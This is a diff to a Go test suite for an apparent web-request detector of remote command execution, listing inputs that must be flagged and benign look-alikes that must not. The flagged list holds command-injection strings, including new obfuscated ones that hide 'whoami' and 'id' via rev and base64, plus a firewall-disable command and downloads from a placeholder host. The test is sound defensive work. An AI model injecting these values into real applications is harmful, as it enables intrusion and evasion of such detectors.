@@ -100,10 +100,10 @@ func TestRCE(t *testing.T) {
 	})
 	recognises(t, RCE, Where{Place: InQuery, Key: []byte("category")}, []string{
 		"netstat -an", "uname -a", "ipconfig /all", "which wget", "which python3\n", `reg add "HKLM\System\x" /v a`, "netsh firewall set opmode disable",
-		"wget https://h.example/x.txt", "curl http://h.example/x", `;id\n`, `a;whoami\n`, `|id\r`,
+		"`echo \"imaohw\" | rev`", ";`printf aWQ= | base64 -d`", "wget https://h.example/x.txt", "curl http://h.example/x", `;id\n`, `a;whoami\n`, `|id\r`,
 	}, []string{
 		"which one", "which python is best", "netstat", "uname", "curl the hair", "curl 7.88", "reg plate", "id -card", "last -minute", "w -a", "who -is-who",
-		"host -name", "hostname -x of us", "netsh", `a;b\n`, `cd x; ls\n`, `a\n;ls\n`, `x;Id\nx`,
+		"`echo` and `rev`", "use `echo a` | rev", "`echo a | rev it twice now`", "host -name", "hostname -x of us", "netsh", `a;b\n`, `cd x; ls\n`, `a\n;ls\n`, `x;Id\nx`,
 	})
 	recognises(t, RCE, Where{Place: InQuery, Key: []byte("q")}, nil, []string{"netstat -an", "uname -a", "ipconfig /all", "which python", "curl http://h.example/x"})
 	recognises(t, RCE, Where{Place: InForm, Key: []byte("comment")}, nil, []string{"netstat -an", "uname -a", "wget https://h.example/x.txt"})
